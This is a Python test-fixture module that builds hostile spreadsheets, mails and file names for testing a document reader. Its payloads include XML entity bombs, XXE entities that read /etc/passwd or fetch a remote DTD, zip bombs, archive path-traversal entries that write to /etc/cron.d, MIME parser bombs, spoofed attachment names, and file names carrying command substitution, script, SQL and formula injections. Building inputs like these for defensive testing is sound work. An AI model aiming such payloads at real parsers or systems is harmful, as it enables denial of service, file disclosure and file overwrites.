"""Every attack known on readers of spreadsheets, mails and folders, made in code.

Files are small, what they ask of a reader is not: each takes down or hangs at least one
widespread library. ``books``, ``mails`` and ``texts`` are inboxes to be run.
"""

from __future__ import annotations

import base64
import io
import warnings
import zipfile
from collections.abc import Iterator, Mapping

from build_biff import label, number, xls
from build_read import DECLARATION, ods, ole, parts, sheet, strings, xlsx, zipped
from test_hostile_run import GOOD, PAGE

ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
TEXT = '<c t="s"><v>0</v></c>'
LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
MEBI = 1 << 20


def cell(ref: str, value: str = "2", more: str = "") -> str:
    """Return the XML of a row of one cell."""
    row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return f'<row r="{row}"><c r="{ref}"{more}><v>{value}</v></c></row>'


def table(cells: str) -> str:
    """Return the XML of an OpenDocument table of one row."""
    return f'<table:table table:name="T"><table:table-row>{cells}</table:table-row></table:table>'


def repeated(columns: int, rows: int) -> str:
    """Return a table that says one value again and again."""
    return (
        f'<table:table table:name="T"><table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" office:value="7"/>'
        "</table:table-row></table:table>"
    )


def typed(doctype: str, text: str = "") -> bytes:
    """Return a workbook whose sheet begins with a document type."""
    begins = f"{DECLARATION}<!DOCTYPE worksheet [{doctype}]>"
    one = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'
    return xlsx(sheet(one).replace(DECLARATION, begins))


def nested_zip(depth: int) -> bytes:
    """Return zips in zips, ten a level."""
    inner = GOOD
    for _ in range(depth):
        inner = zipped({f"{n}.zip": inner for n in range(10)})
    return inner


def twice(name: str) -> bytes:
    """Return a workbook with a part more, of a name that is taken or leads out."""
    target = io.BytesIO(xlsx(sheet(ONE)))
    with zipfile.ZipFile(target, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr(zipfile.ZipInfo(name), sheet(cell("A1", "666")))
    return target.getvalue()


def flagged() -> bytes:
    """Return a workbook whose parts say that they are encrypted."""
    data = bytearray(xlsx(sheet(ONE)))
    at = data.find(b"PK\x03\x04")
    while at >= 0:
        data[at + 6] |= 1
        at = data.find(b"PK\x03\x04", at + 4)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def books() -> Mapping[str, bytes]:
    """Return workbooks by name: bombs, lies, loops, doubles, and what is named amiss."""
    grid = "A1:XFD1048576"
    long = strings("x" * 32_767)
    old = xls(label(0, 0, "Jalon") + number(1, 0, 4))
    found: dict[str, bytes] = {
        "spaces.xlsx": xlsx(sheet(" " * (80 * MEBI) + ONE)),
        "rows-of-one.xlsx": xlsx(sheet("<row><c><v>1</v></c></row>" * 700_000)),
        "bzip2.xlsx": zipped(parts(sheet(ONE)), method=zipfile.ZIP_BZIP2),
        "lzma.xlsx": zipped(parts(sheet(ONE)), method=zipfile.ZIP_LZMA),
        "one-text-often.xlsx": xlsx(sheet(f"<row>{TEXT * 16_000}</row>" * 6), sharedStrings=long),
        "one-text.xlsx": xlsx(sheet(f"<row>{TEXT * 10_000}</row>" * 2), sharedStrings=long),
        "corners.xlsx": xlsx(sheet(ONE + cell("XFD1048576"))),
        "far-down.xlsx": xlsx(sheet(ONE + cell("CV1048576"))),
        "last-alone.xlsx": xlsx(sheet(cell("XFD1048576"))),
        "lies.xlsx": xlsx(sheet(ONE + cell("B2"), before=f'<dimension ref="{grid}"/>')),
        "row-beyond.xlsx": xlsx(sheet(ONE + cell("A16777217"))),
        "column-beyond.xlsx": xlsx(sheet(ONE + cell("XFE1"))),
        "column-far.xlsx": xlsx(sheet(ONE + cell("ZZZZZZZZZZ1"))),
        "merged.xlsx": xlsx(sheet(ONE, after=f'<mergeCells count="1"><mergeCell ref="{grid}"/></mergeCells>')),
        "linked.xlsx": xlsx(sheet(ONE, after=f'<hyperlinks><hyperlink ref="{grid}" location="A1"/></hyperlinks>')),
        "merges.xlsx": xlsx(sheet(ONE, after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 120_000 + "</mergeCells>")),
        "attribute.xlsx": xlsx(sheet(f'<row r="1" spans="{"1" * (20 * MEBI)}"/>' + ONE)),
        "nested.xlsx": xlsx(sheet("<x>" * 200_000 + "</x>" * 200_000 + ONE)),
        "texts-untold.xlsx": xlsx(sheet(f'<row r="1">{TEXT}</row>'), sharedStrings=strings("a", unique=(1 << 32) - 1)),
        "style-beyond.xlsx": xlsx(sheet(cell("A1", more=' s="999999"'))),
        "huge.xlsx": xlsx(sheet(cell("A1", "1e300") + cell("A2", "1e400") + cell("A3", "nan"))),
        "day.xlsx": xlsx(sheet(cell("A1", "9999-99-99T99:99:99", ' t="d"'))),
        "control.xlsx": xlsx(sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>_x0000_\x01_xD800_</t></is></c></row>')),
        "laughs.xlsx": typed(f'<!ENTITY l0 "ha">{LAUGHS}', "&l9;"),
        "quadratic.xlsx": typed(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000),
        "outside.xlsx": typed('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        "fetched.xlsx": typed('<!ENTITY % x SYSTEM "http://exemple.invalid/x.dtd">%x;'),
        "values-repeated.ods": ods(repeated(16_384, 1_000_000)),
        "rows-repeated.ods": ods(repeated(1, 4_000_000_000)),
        "blanks.ods": ods(table('<table:table-cell office:value-type="string"><text:p><text:s text:c="2000000000"/></text:p></table:table-cell>')),
        "zips.zip": nested_zip(4),
        "twin-case.xlsx": twice("xl/worksheets/Sheet1.XML"),
        "twin.xlsx": twice("xl/worksheets/sheet1.xml"),
        "above.xlsx": twice("../../../../tmp/evil.xlsx"),
        "absolute.xlsx": twice("/etc/cron.d/evil"),
        "drive.xlsx": twice("C:\\evil.xlsx"),
        "encrypted-parts.xlsx": flagged(),
        "encrypted.xlsx": ole("EncryptionInfo", "EncryptedPackage"),
        "sectors.xls": ole("Workbook", header={44: 0x7FFFFFFF}),
        "chain.xls": ole("Workbook", header={60: 1, 68: 1, 72: 0x7FFFFFFF}),
        "both.xlsx": GOOD + xlsx(sheet(ONE)),
        "behind-junk.xlsx": b"MZ" + b"\0" * 4096 + GOOD,
        "named-xls.xls": GOOD + b"",
        "named-xlsb.xlsb": xlsx(sheet(cell("A1", "3"))),
        "named-ods.ods": xlsx(sheet(cell("A1", "4"))),
        "named-xlsx.xlsx": old,
        "page.xls": PAGE.encode(),
        "text16.xls": "Jalon\tÉchéance\nRecette\t31/12/2026\n".encode("utf-16"),
        "one-line.csv": b"Jalon;" * (4 * MEBI),
        "field.csv": b"Jalon;Fin\n" + b"x" * (2 * MEBI) + b";1\n",
        "quote.csv": b'Jalon;Fin\n"' + b"x;\n" * MEBI,
        "nul.csv": b"Jalon;Fin\n\0\0\0;1\n",
    }  # fmt: skip
    sheets = parts(*(sheet(ONE),) * 2)
    found["sheets-one-part.xlsx"] = zipped(
        sheets
        | {
            name: part.replace("sheet2.xml", "sheet1.xml")
            for name, part in sheets.items()
            if name.endswith("workbook.xml.rels")
        }
    )
    found |= {f"cut-{share}.xlsx": GOOD[: len(GOOD) * share // 100] for share in (1, 33, 66, 99)}  # fmt: skip
    return found


def wrapped(body: bytes, **headers: bytes) -> bytes:
    """Return a mail of these headers."""
    told = {"From": b"pm@exemple.invalid", "Subject": b"x", **headers}
    lines = b"".join(k.replace("_", "-").encode() + b": " + v + b"\r\n" for k, v in told.items())  # fmt: skip
    return lines + b"MIME-Version: 1.0\r\n" + body


def attached(name: bytes, data: bytes, disposition: bytes = b"") -> bytes:
    """Return the body of a mail with one attachment, named as it comes."""
    how = disposition or b'attachment; filename="' + name + b'"'
    return (
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: application/octet-stream\r\nContent-Disposition: " + how + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data) + b"\r\n--b--\r\n"
    )  # fmt: skip


def nested_mail(depth: int) -> bytes:
    """Return a mail in a mail in a mail."""
    opens = (b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(depth))  # fmt: skip
    return b"".join(opens) + b"\r\nx"


def mails() -> Mapping[str, bytes]:
    """Return mails by name: too many, too deep, too long, pointing elsewhere, misnamed."""
    part = b"--b\r\n\r\nx\r\n"
    told = {
        "parts.eml": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 20_000 + b"--b--",
        "deep.eml": nested_mail(500),
        "external.eml": b'Content-Type: message/external-body; access-type=URL; URL="http://exemple.invalid/a.xlsx"\r\n\r\nx',
        "partial.eml": b"Content-Type: message/partial; id=1; number=1; total=2\r\n\r\nx",
        "signed.eml": attached(b"smime.p7m", b"0\x80"),
        "winmail.eml": attached(b"winmail.dat", b"\x78\x9f\x3e\x22"),
        "charset.eml": b"Content-Type: text/csv; charset=klingon; name=a.csv\r\n\r\nJalon;Fin\r\n",
        "above.eml": attached(b"../../../../tmp/evil.xlsx", GOOD),
        "nul-name.eml": attached(b"a\0b.xlsx", GOOD),
        "bidi-name.eml": attached("\u202exslx.exe.xlsx".encode(), GOOD),
        "two-names.eml": attached(b"", GOOD, b'attachment; filename="a.xlsx"; filename="b.xlsx"'),
        "gaps.eml": attached(b"", GOOD, b"attachment; filename*0=a; filename*9=.xlsx"),
        "dots.eml": attached(b"..", GOOD),
        "no-name.eml": attached(b"", GOOD, b"attachment"),
    }  # fmt: skip
    found = {name: wrapped(body) for name, body in told.items()}
    found |= {
        "many.eml": wrapped(b"\r\nx", To=b", ".join([b"a@exemple.invalid"] * 100_000)),
        "brackets.eml": wrapped(b"\r\nx", Message_ID=b"<" * 50_000),
        "words.eml": wrapped(b"\r\nx", Subject=b"=?utf-8?q?a?= " * 50_000),
        "torn-header.eml": wrapped(b"\r\nx", From=b"=?utf-8?b?SGVsbG8NClg6IHk=?= <a@exemple.invalid>"),
        "one-line.eml": wrapped(
            b"Content-Type: application/octet-stream; name=a.xlsx\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.b64encode(bytes(12 * MEBI))
        ),
    }  # fmt: skip
    return found


def texts() -> Mapping[bytes, bytes]:
    """Return texts whose names some system, shell, page or sheet stumbles over."""
    return {name: b"Jalon;Fin\n%d;31/12/2026\n" % n for n, name in enumerate(_names())}


def _names() -> Iterator[bytes]:
    texts = (
        *("new\nline", "tab\ttab", "esc\x1b[31m", "bidi\u202exslx", "end ", "dot."),
        *("-rf", "$(id)", "`id`", "<img src=x onerror=alert(1)>", "=1+1", "%00", "a&b"),
        *("caf\u00e9", "cafe\u0301", "TWIN", "twin", "x" * 240, "' OR 1=1 --", "CON"),
        *("{{ 7*7 }}", "\u2028line", "\ufeffbom", "a;b,c"),
    )
    for text in texts:
        yield text.encode() + b".csv"
    yield b"latin-\xe9.csv"
    yield b"\xff\xfe.csv"
